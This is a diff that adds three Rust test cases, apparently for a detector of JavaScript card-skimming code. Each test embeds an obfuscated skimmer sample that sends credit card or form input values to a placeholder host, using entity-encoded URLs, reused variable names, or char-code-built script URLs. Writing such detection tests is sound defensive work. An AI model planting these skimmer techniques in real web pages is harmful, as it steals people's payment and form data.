@@ -181,3 +181,46 @@ fn selector_list_and_star_harvest_every_field() {
     );
     assert_exfiltration("every element", &code);
 }
+
+#[test]
+fn entity_url_read_through_computed_jquery_methods() {
+    // `.html(x).text()` reached through a string table, the URL hidden as entities.
+    let entities: String = format!("//{HOST}/e").chars().map(|c| format!("&#x{:X};", c as u32)).collect();
+    let code = format!(
+        "var t=['html','text','<div />','#cc_number','val'];\
+         (function($){{$(function(q){{q('form').on('submit',function(){{\
+         var x=new XMLHttpRequest();x.open('POST',q(t[2])[t[0]]('{entities}')[t[1]](),true);\
+         x.send(q(t[3])[t[4]]())}})}})}})(jQuery);"
+    );
+    assert_exfiltration("entity chain", &code);
+}
+
+#[test]
+fn request_method_in_a_reused_local_name_still_opens() {
+    // Obfuscators reuse a handful of names in every function: `m` is a function in one
+    // place and the HTTP method in another, so it is no script-wide constant.
+    let code = format!(
+        "var m=function(a){{return a*2}};\
+         function send(){{var m='post',d=document.getElementById('cc_number').value,\
+         x=new XMLHttpRequest();x.open(m,'https://{HOST}/o',true);x.send(d)}}\
+         document.addEventListener('submit',send);"
+    );
+    assert_exfiltration("reused method name", &code);
+}
+
+#[test]
+fn destination_built_step_by_step_in_a_local() {
+    // The URL grows over several statements and reads its own "/" back (`u[6]`); the
+    // name `u` is also another function's number, as obfuscators reuse names.
+    let host_codes: Vec<String> = HOST.bytes().map(|b| b.to_string()).collect();
+    let code = format!(
+        "var D=document,F='',H='';\
+         function grab(){{var u=0,k=D.getElementsByTagName('input'),i;F='';\
+         for(i=0;i<k.length;i++){{F+='&'+k[i].name+'='+k[i].value;H=k[i].value}}ship()}}\
+         function ship(){{var u='https://',S=String;u+=S.fromCharCode({})+u[6];u+='i';\
+         var s=D.createElement('script');s.src=u+'?d='+F+'&c='+H;D.head.appendChild(s)}}\
+         D.addEventListener('change',grab);",
+        host_codes.join(",")
+    );
+    assert_exfiltration("step-by-step URL", &code);
+}
